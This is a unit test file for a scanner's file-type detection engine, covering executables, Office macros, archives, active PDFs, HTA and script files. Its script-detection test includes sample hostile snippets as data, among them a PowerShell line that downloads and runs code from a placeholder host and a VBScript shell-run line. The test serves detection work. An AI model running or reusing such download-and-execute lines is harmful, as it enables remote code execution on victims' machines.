import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { detectFileType } from '../../../../src/scan/engines/builtin/file-type/detect-file-type.js';
import { oleDirectoryNames } from '../../../../src/scan/engines/builtin/file-type/ole-storage.js';
import { zipEntryNames } from '../../../../src/scan/engines/builtin/file-type/zip-entries.js';
import type { DetectedType } from '../../../../src/types/verdict.js';
import { fatMachO, isoImage, javaClass, minimalElf, minimalPe, oleFile, ooxmlFile, pdfFile, shellLink, withMagic, zipFile } from './samples.js';

const typeOf = (content: Buffer | string, fileName?: string): DetectedType =>
  detectFileType(Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8'), fileName).detectedType;

describe('detectFileType: executables', () => {
  it('PE needs MZ and a PE header where e_lfanew points', () => {
    assert.equal(typeOf(minimalPe()), 'pe');
    assert.equal(typeOf(minimalPe(0x0c)), 'pe', 'header inside the DOS header, as packers do');
    const broken = minimalPe();
    broken.writeUInt32LE(0x90, 0x3c);
    assert.notEqual(typeOf(broken), 'pe');
    assert.notEqual(typeOf(Buffer.from('MZ is how this text starts')), 'pe');
  });

  it('ELF', () => {
    assert.equal(typeOf(minimalElf()), 'elf');
  });

  it('Mach-O: 32/64-bit, both byte orders, fat; not Java classes', () => {
    for (const magic of [
      [0xfe, 0xed, 0xfa, 0xce],
      [0xce, 0xfa, 0xed, 0xfe],
      [0xfe, 0xed, 0xfa, 0xcf],
      [0xcf, 0xfa, 0xed, 0xfe],
    ]) {
      assert.equal(typeOf(withMagic(magic)), 'macho', magic.join(','));
    }
    assert.equal(typeOf(fatMachO(2)), 'macho');
    const fatLittle = withMagic([0xbe, 0xba, 0xfe, 0xca]);
    fatLittle.writeUInt32LE(3, 4);
    assert.equal(typeOf(fatLittle), 'macho');
    const fat64 = withMagic([0xca, 0xfe, 0xba, 0xbf]);
    fat64.writeUInt32BE(1, 4);
    assert.equal(typeOf(fat64), 'macho');
    assert.notEqual(typeOf(javaClass()), 'macho');
  });
});

describe('detectFileType: documents and containers', () => {
  it('OLE, with macros when a VBA storage exists', () => {
    assert.deepEqual(detectFileType(oleFile(['WordDocument', 'SummaryInformation'])), { detectedType: 'ole', hasMacros: false });
    assert.deepEqual(detectFileType(oleFile(['WordDocument', 'Macros', 'VBA'])), { detectedType: 'ole', hasMacros: true });
    assert.deepEqual(detectFileType(oleFile(['Workbook', '_VBA_PROJECT_CUR'])), { detectedType: 'ole', hasMacros: true });
    assert.deepEqual(oleDirectoryNames(oleFile(['A', 'B', 'C', 'D', 'E', 'F'])), ['Root Entry', 'A', 'B', 'C', 'D', 'E', 'F']);
  });

  it('OLE with a broken directory chain falls back to a raw search for _VBA_PROJECT', () => {
    const file = oleFile(['WordDocument', '_VBA_PROJECT']);
    file.writeUInt32LE(0x7fffff, 0x30); // directory sector far beyond the end
    assert.deepEqual(detectFileType(file), { detectedType: 'ole', hasMacros: true });
  });

  it('OOXML from the zip central directory, with macros when vbaProject.bin is an entry', () => {
    assert.deepEqual(detectFileType(ooxmlFile(false)), { detectedType: 'ooxml', hasMacros: false });
    assert.deepEqual(detectFileType(ooxmlFile(true)), { detectedType: 'ooxml', hasMacros: true });
  });

  it('plain zip, also stored, prefixed or without a central directory', () => {
    const entries = [{ name: 'a.txt', data: 'hello' }, { name: 'dir/b.exe', data: minimalPe() }];
    assert.equal(typeOf(zipFile(entries)), 'zip');
    assert.deepEqual(zipEntryNames(zipFile(entries, 'store')), ['a.txt', 'dir/b.exe']);
    assert.deepEqual(zipEntryNames(zipFile(entries, 'deflate', Buffer.from('prefix data '))), ['a.txt', 'dir/b.exe']);
    const truncated = zipFile(entries, 'store');
    assert.deepEqual(zipEntryNames(truncated.subarray(0, truncated.length - 60)), ['a.txt', 'dir/b.exe']);
  });

  it('PDF, active with /JavaScript, /JS or /OpenAction, also #-escaped', () => {
    assert.deepEqual(detectFileType(pdfFile('/Type /Catalog')), { detectedType: 'pdf', pdfActive: false });
    assert.deepEqual(detectFileType(pdfFile('/Type /Catalog /OpenAction 2 0 R')), { detectedType: 'pdf', pdfActive: true });
    assert.deepEqual(detectFileType(pdfFile('/S /JavaScript /JS (app.alert(1))')), { detectedType: 'pdf', pdfActive: true });
    assert.deepEqual(detectFileType(pdfFile('/S /J#61vaScript')), { detectedType: 'pdf', pdfActive: true });
    assert.deepEqual(detectFileType(pdfFile('/#4Fpen#41ction 2 0 R')), { detectedType: 'pdf', pdfActive: true });
    assert.deepEqual(detectFileType(pdfFile('/JSON /JScript #41')), { detectedType: 'pdf', pdfActive: false });
  });

  it('RTF, archives, images, disk images, shortcuts', () => {
    assert.equal(typeOf('{\\rtf1\\ansi hello}'), 'rtf');
    assert.equal(typeOf(withMagic([0x1f, 0x8b, 0x08])), 'gzip');
    assert.equal(typeOf(withMagic([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])), '7z');
    assert.equal(typeOf(Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1')), 'rar');
    const tar = Buffer.alloc(1024);
    tar.write('file.txt', 0);
    tar.write('ustar', 257);
    assert.equal(typeOf(tar), 'tar');
    assert.equal(typeOf(withMagic([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 'image');
    assert.equal(typeOf(withMagic([0xff, 0xd8, 0xff, 0xe0])), 'image');
    assert.equal(typeOf(Buffer.from('GIF89a\x01\x00', 'latin1')), 'image');
    for (const offset of [0x8001, 0x8801, 0x9001]) assert.equal(typeOf(isoImage(offset)), 'iso');
    assert.equal(typeOf(isoImage(0x8001, 'BEA01')), 'iso');
    assert.equal(typeOf(shellLink()), 'lnk');
  });
});

describe('detectFileType: text', () => {
  it('HTML and HTA', () => {
    assert.equal(typeOf('<!DOCTYPE html><html><body>hi</body></html>'), 'html');
    assert.equal(typeOf('\ufeff  <html>\n<head></head></html>'), 'html');
    assert.equal(typeOf('some text <b>bold</b>', 'page.html'), 'html');
    assert.equal(typeOf('<html><head><HTA:APPLICATION ID="x"/></head></html>'), 'hta');
    assert.equal(typeOf('<html></html>', 'run.hta'), 'hta');
  });

  it('scripts by extension when the content is text', () => {
    assert.equal(typeOf('x = 1', 'a.js'), 'script-js');
    assert.equal(typeOf('x = 1', 'a.vbs'), 'script-vbs');
    assert.equal(typeOf('x = 1', 'a.ps1'), 'script-powershell');
    assert.equal(typeOf('x = 1', 'a.BAT'), 'script-batch');
    assert.equal(typeOf('<job><script language="VBScript">x</script></job>', 'a.wsf'), 'script-vbs');
    assert.equal(typeOf(minimalPe(), 'a.js'), 'pe', 'content wins over the name');
  });

  it('scripts by content', () => {
    assert.equal(typeOf('var shell = new ActiveXObject("WScript.Shell");\nfunction run(x) { eval(x); }'), 'script-js');
    assert.equal(typeOf('Dim o\nSet o = CreateObject("WScript.Shell")\no.Run "calc"\n'), 'script-vbs');
    assert.equal(typeOf('$c = New-Object System.Net.WebClient\nIEX $c.DownloadString("http://x")\n'), 'script-powershell');
    assert.equal(typeOf('@echo off\r\nset X=1\r\ngoto :end\r\n:end\r\n'), 'script-batch');
  });

  it('prose stays text', () => {
    assert.equal(typeOf('Hello Bob,\n\nplease find the invoice attached. Let me know if the function works for you.\n\nAlice\n'), 'text');
    assert.equal(typeOf('Name,Amount\nAlice,10\nBob,20\n'), 'text');
    assert.equal(typeOf(Buffer.from('\xff\xfeh\0i\0', 'latin1')), 'text');
  });

  it('binary noise and empty files are unknown', () => {
    assert.equal(typeOf(Buffer.from([0x00, 0x01, 0x02, 0x03, 0x04, 0xfe, 0x80])), 'unknown');
    assert.equal(typeOf(Buffer.alloc(0)), 'unknown');
  });
});
